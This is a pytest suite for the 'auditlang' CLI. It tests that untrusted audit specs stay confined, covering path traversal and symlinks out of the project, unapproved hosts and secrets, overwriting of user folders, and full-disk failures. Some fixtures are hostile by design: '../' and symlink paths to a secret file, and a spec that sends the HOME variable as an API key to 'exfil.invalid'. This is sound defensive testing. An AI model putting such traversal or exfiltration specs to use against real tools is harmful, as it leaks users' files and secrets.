"""A spec from a stranger is safe to run (issue 15): every file it reads stays inside the project
root or a data root the user gave; a run contacts a non-loopback host and reads a secret only
when the user allows it; `--out` never overwrites a user's folder; a full disk is a clear runtime
failure. Each test takes the user's path: a hostile spec file on disk and `auditc` through
``main([...])``. Network tests use a listener on 127.0.0.1 only.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from auditlang.cli import main

from .conftest import ARC_ROWS, BASE, make_project, run_dryrun, spec_with_template

SECRET_TEXT = "TOP-SECRET-CONTENT-4711"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside the project holding a file the spec must not read."""
    d = tmp_path / "outside"
    d.mkdir()
    (d / "secret.txt").write_text(SECRET_TEXT + " {{ question }}\n", encoding="utf-8")
    (d / "secret.jsonl").write_text(ARC_ROWS, encoding="utf-8")
    return d


# ---------------------------------------------------------------- confinement

@pytest.mark.parametrize("how", ["absolute", "dotdot", "symlink"])
def test_template_file_outside_the_project_is_refused(tmp_path, outside, capsys, how):
    proj = make_project(tmp_path / "proj")
    target = {"absolute": str(outside / "secret.txt"), "dotdot": "../outside/secret.txt", "symlink": "t.j2"}[how]
    if how == "symlink":
        (proj / "t.j2").symlink_to(outside / "secret.txt")
    (proj / "s.audit").write_text(spec_with_template(f'file="{target}"'), encoding="utf-8")
    for cmd in (["check", "s.audit"], ["plan", "s.audit", "--data-root", "data"]):
        assert main(cmd) == 1
        err = capsys.readouterr()
        assert "error[E118]" in err.err and "outside the project root" in err.err and "hint:" in err.err
        assert SECRET_TEXT not in err.out + err.err
    assert main(["run", "s.audit", "--data-root", "data", "--out", "runs/r", "--engine", "dryrun", "--no-progress"]) == 1
    assert not (proj / "runs").exists()


@pytest.mark.parametrize("how", ["absolute", "dotdot", "symlink"])
def test_data_file_outside_the_project_and_data_root_is_refused(tmp_path, outside, capsys, monkeypatch, how):
    proj = make_project(tmp_path / "proj")
    path = {"absolute": str(outside / "secret.jsonl"), "dotdot": "../../outside/secret.jsonl", "symlink": "link.jsonl"}[how]
    if how == "symlink":
        (proj / "data" / "link.jsonl").symlink_to(outside / "secret.jsonl")
    (proj / "s.audit").write_text(BASE.replace('"arc.jsonl"', f'"{path}"'), encoding="utf-8")
    assert main(["plan", "s.audit", "--data-root", "data"]) == 1
    err = capsys.readouterr().err
    assert "error[E118]" in err and "s.audit:3:" in err and "--data-root" in err
    # the same file is readable once the user names its folder as a data root
    monkeypatch.setenv("AUDITLANG_DATA_ROOT", str(outside))
    assert main(["plan", "s.audit", "--data-root", "data"]) == 0
    assert "arc.jsonl" not in capsys.readouterr().out  # it read the outside file, not a fallback


def test_settings_data_root_outside_the_project_is_refused(tmp_path, outside, capsys, monkeypatch):
    proj = make_project(tmp_path / "proj")
    (outside / "arc.jsonl").write_text(ARC_ROWS, encoding="utf-8")
    (proj / "s.audit").write_text(BASE + f'settings {{\n  data_root = "{outside}"\n}}\n', encoding="utf-8")
    assert main(["plan", "s.audit"]) == 1
    err = capsys.readouterr().err
    assert "error[E118]" in err and "settings data_root" in err and "s.audit:15:" in err
    monkeypatch.setenv("AUDITLANG_DATA_ROOT", str(outside))  # the user's own choice: allowed
    assert main(["plan", "s.audit"]) == 0


def test_import_through_a_symlink_out_of_the_project_is_refused(tmp_path, outside, capsys):
    proj = make_project(tmp_path / "proj")
    (outside / "evil.audit").write_text('template t = template("x")\n', encoding="utf-8")
    (proj / "lib.audit").symlink_to(outside / "evil.audit")
    (proj / "s.audit").write_text('import "lib"\n' + BASE, encoding="utf-8")
    assert main(["check", "s.audit"]) == 1
    assert "error[E112]" in capsys.readouterr().err


# ---------------------------------------------------------------- network and secrets

class _Listener:
    """An OpenAI-compatible stub on 127.0.0.1 that records every request's path and headers."""

    def __init__(self) -> None:
        seen = self.seen = []

        class H(BaseHTTPRequestHandler):
            def log_message(self, *a):  # noqa: ANN002
                pass

            def _reply(self, body: dict) -> None:
                data = json.dumps(body).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self):  # noqa: N802
                seen.append((self.path, dict(self.headers)))
                self._reply({"data": [{"id": "gpt"}]})

            def do_POST(self):  # noqa: N802
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                seen.append((self.path, dict(self.headers)))
                top = [{"token": "A", "logprob": -0.1}, {"token": "B", "logprob": -2.5}]
                self._reply({"choices": [{"index": 0, "message": {"content": "A"}, "finish_reason": "stop",
                                          "logprobs": {"content": [{"token": "A", "logprob": -0.1, "top_logprobs": top}]}}]})

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    srv = _Listener()
    yield srv
    srv.close()


def _openai_spec(base_url: str, key_env: str) -> str:
    return BASE.replace('embedded("smollm2-135m-instruct", dtype=float32, batch_size=4, max_tokens=8)',
                        f'openai("gpt", base_url="{base_url}", api_key_env="{key_env}", max_tokens=4)')


def test_secret_is_sent_only_when_the_user_allows_it(tmp_path, listener, capsys, monkeypatch):
    proj = make_project(tmp_path / "proj")
    monkeypatch.setenv("MY_TOKEN", "dummy-secret-123")
    monkeypatch.setenv("AUDITLANG_CONFIG", str(tmp_path / "no-config.toml"))
    (proj / "s.audit").write_text(_openai_spec(listener.url, "MY_TOKEN"), encoding="utf-8")
    args = ["run", "s.audit", "--data-root", "data", "--out", "runs/r", "--no-progress"]
    assert main(args) == 1
    err = capsys.readouterr().err
    assert "error[E181]" in err and "MY_TOKEN" in err and "--allow-secret MY_TOKEN" in err
    assert listener.seen == [] and not (proj / "runs").exists()  # nothing contacted, nothing written

    assert main([*args, "--allow-secret", "MY_TOKEN"]) == 0, capsys.readouterr().err
    assert listener.seen and all(h.get("Authorization") == "Bearer dummy-secret-123" for _, h in listener.seen)
    info = json.loads((proj / "runs/r/run.json").read_text())
    (acc,) = info["access"]
    assert acc["url"] == listener.url and acc["host_allowed_by"] == "loopback"
    assert acc["secret"] == "MY_TOKEN" and acc["secret_allowed_by"] == "--allow-secret"
    assert "dummy-secret-123" not in (proj / "runs/r/run.json").read_text()
    md = (proj / "runs/r/report/checklist.md").read_text()
    assert "Network endpoints contacted and secrets read" in md and f"{listener.url} (host 127.0.0.1, allowed by loopback)" in md
    assert "API key read from $MY_TOKEN (allowed by --allow-secret)" in md


def test_remote_host_is_refused_before_anything_happens(tmp_path, capsys, monkeypatch):
    """A non-loopback host is never contacted in this test: the run must stop before any engine."""
    proj = make_project(tmp_path / "proj")
    monkeypatch.setenv("AUDITLANG_CONFIG", str(tmp_path / "no-config.toml"))
    (proj / "s.audit").write_text(_openai_spec("http://exfil.invalid/v1", "HOME"), encoding="utf-8")
    assert main(["run", "s.audit", "--data-root", "data", "--out", "runs/r", "--no-progress"]) == 1
    err = capsys.readouterr().err
    assert "error[E180]" in err and "exfil.invalid" in err and "--allow-host exfil.invalid" in err
    assert "error[E181]" in err and "s.audit:4:" in err
    assert not (proj / "runs").exists()


def test_plan_lists_hosts_and_secrets_with_their_permission(tmp_path, capsys, monkeypatch):
    proj = make_project(tmp_path / "proj")
    (proj / "s.audit").write_text(_openai_spec("https://exfil.invalid/v1", "HOME"), encoding="utf-8")
    monkeypatch.setenv("AUDITLANG_CONFIG", str(tmp_path / "no-config.toml"))
    assert main(["plan", "s.audit", "--data-root", "data"]) == 0
    out = capsys.readouterr().out
    assert "https://exfil.invalid/v1 (host exfil.invalid, from spec): NOT ALLOWED: auditc run needs --allow-host exfil.invalid" in out
    assert "reads $HOME as its API key: NOT ALLOWED" in out
    assert main(["plan", "s.audit", "--data-root", "data", "--allow-host", "exfil.invalid"]) == 0
    assert "(host exfil.invalid, from spec): --allow-host" in capsys.readouterr().out
    cfg = tmp_path / "config.toml"
    cfg.write_text('allow_hosts = ["exfil.invalid"]\nallow_secrets = ["HOME"]\n', encoding="utf-8")
    monkeypatch.setenv("AUDITLANG_CONFIG", str(cfg))
    assert main(["plan", "s.audit", "--data-root", "data", "--format", "json", "--no-requests"]) == 0
    (acc,) = json.loads(capsys.readouterr().out)["access"]
    assert acc["host_allowed_by"] == str(cfg) and acc["secret_allowed_by"] == str(cfg)
    assert main(["plan", "s.audit", "--data-root", "data"]) == 0  # local-only spec: says so
    (proj / "s2.audit").write_text(BASE, encoding="utf-8")
    capsys.readouterr()
    assert main(["plan", "s2.audit", "--data-root", "data"]) == 0
    assert "network: none" in capsys.readouterr().out


# ---------------------------------------------------------------- --out and the disk

def test_out_into_a_user_folder_is_refused_and_nothing_is_written(tmp_path, capsys):
    proj = make_project(tmp_path / "proj")
    mine = proj / "mine"
    mine.mkdir()
    files = {"notes.txt": "precious", "run.json": "{}", "records.parquet": "mine", "plan.json": "mine"}
    for k, v in files.items():
        (mine / k).write_text(v)
    before = {p.name: p.read_text() for p in mine.iterdir()}
    assert run_dryrun("s.audit", "mine") == 1
    err = capsys.readouterr().err
    assert "not an auditlang run directory" in err and "nothing was written" in err
    assert {p.name: p.read_text() for p in mine.iterdir()} == before
    # nor can `auditc merge` write there
    assert run_dryrun("s.audit", "runs/shard0", "--shard", "0/2") == 0
    assert main(["merge", "mine", "runs/shard0"]) == 1
    assert {p.name: p.read_text() for p in mine.iterdir()} == before


def test_a_folder_holding_only_data_or_report_is_not_taken_for_a_run(tmp_path, capsys):
    proj = make_project(tmp_path / "proj")
    (proj / "mine" / "report").mkdir(parents=True)
    (proj / "mine" / "report" / "index.md").write_text("my notes")
    assert run_dryrun("s.audit", "mine") == 1
    assert (proj / "mine" / "report" / "index.md").read_text() == "my notes"


@pytest.mark.parametrize("target", ["afile", "afile/sub", "/dev/null", "/proc/self/nope"])
def test_unusual_out_targets_are_diagnostics(tmp_path, capsys, target):
    proj = make_project(tmp_path / "proj")
    (proj / "afile").write_text("x")
    assert run_dryrun("s.audit", target) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "Traceback" not in err
    assert (proj / "afile").read_text() == "x"


def test_rerun_into_a_run_directory_resumes(tmp_path, capsys):
    make_project(tmp_path / "proj")
    assert run_dryrun("s.audit", "runs/r") == 0
    first = capsys.readouterr().err
    assert "requests: executed 4, cached 0, errors 0" in first
    journal = (tmp_path / "proj" / "runs" / "r" / "journal.sqlite")
    with sqlite3.connect(journal) as db:
        before = db.execute("SELECT * FROM results ORDER BY 1").fetchall()
    assert run_dryrun("s.audit", "runs/r") == 0
    again = capsys.readouterr().err
    # nothing re-executed: the engine is not even loaded, every request comes from the journal
    assert "requests: executed 0, cached 4, errors 0" in again and "not loaded" in again
    with sqlite3.connect(journal) as db:
        assert db.execute("SELECT * FROM results ORDER BY 1").fetchall() == before


def test_full_disk_journal_is_a_runtime_failure_with_the_resume_command(tmp_path, capsys, monkeypatch):
    make_project(tmp_path / "proj")
    from auditlang.store import journal

    real = journal.Journal.__enter__

    def full(self):  # SQLite's own message for ENOSPC
        real(self)
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(journal.Journal, "__enter__", full)
    assert run_dryrun("s.audit", "runs/r") == 3
    err = capsys.readouterr().err
    assert "cannot write the run directory" in err and "journal.sqlite" in err
    assert "auditc run s.audit --out runs/r --data-root data" in err and "Traceback" not in err


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a tiny tmpfs needs root")
def test_real_full_disk_is_exit_3_and_leaves_no_tmp_files(tmp_path, capsys):
    proj = make_project(tmp_path / "proj")
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mnt)], capture_output=True).returncode:
        pytest.skip("cannot mount tmpfs here")
    try:
        rc = run_dryrun("s.audit", str(mnt / "r"))
        err = capsys.readouterr().err
        assert rc == 3, err
        assert "No space left on device" in err or "disk is full" in err
        assert f"auditc run s.audit --out {mnt / 'r'}" in err and "Traceback" not in err
        left = [p for p in mnt.rglob("*") if p.name.endswith(".tmp") or p.name == "spec.new"]
        assert left == []
        # space freed: the command the message names resumes the run
        subprocess.run(["mount", "-o", "remount,size=16m", str(mnt)], check=True)
        assert run_dryrun("s.audit", str(mnt / "r")) == 0, capsys.readouterr().err
        assert (mnt / "r" / "report" / "checklist.md").exists()
    finally:
        subprocess.run(["umount", str(mnt)], check=False)
    assert proj.exists()


def test_engine_refuses_a_host_not_allowed_even_when_constructed_directly():
    """Defence in depth: under `auditc run`'s allowances the openai engine itself refuses to
    connect (checked before any socket is opened)."""
    from auditlang.core.engine import EngineError, ModelConfig
    from auditlang.core.trust import Allowances, enforce
    from auditlang.engines.openai_engine import OpenAIEngine

    cfg = ModelConfig(name="m", engine="openai", path="gpt", options={"base_url": "http://exfil.invalid/v1",
                                                                     "api_key_env": "HOME"})
    enforce(Allowances())
    try:
        with pytest.raises(EngineError, match="host 'exfil.invalid' is not allowed"):
            OpenAIEngine(cfg)
        enforce(Allowances(hosts={"exfil.invalid": "--allow-host"}))
        with pytest.raises(EngineError, match="secret HOME is not allowed"):
            OpenAIEngine(cfg)
    finally:
        enforce(None)
